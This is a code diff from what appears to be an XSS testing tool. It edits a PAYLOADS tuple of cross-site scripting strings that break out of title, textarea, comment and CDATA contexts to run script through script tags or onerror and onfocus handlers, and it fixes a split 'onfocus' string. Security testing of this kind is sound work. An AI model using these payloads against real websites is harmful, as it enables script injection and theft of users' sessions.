@@ -106,8 +106,8 @@ PAYLOADS: tuple[Payload, ...] = (
             f"</title><script>{RUN}</script>",
             f"</textarea></style></noscript></template><script>{RUN}</script>",
             f"\"'><img src=x onerror={RUN}>",
-            f"\" autofocus tabindex=0 onfocus={RUN} x=\"><b autofocus tabindex=0 on"
-            f"ocus={RUN}>x</b>",
+            f"\" autofocus tabindex=0 onfocus={RUN} x=\"><b autofocus tabindex=0 "
+            f"onfocus={RUN}>x</b>",
             f"--><script>{RUN}</script><!--",
             f"]]><script>{RUN}</script>",
             f"<!--><script>{RUN}</script>-->",
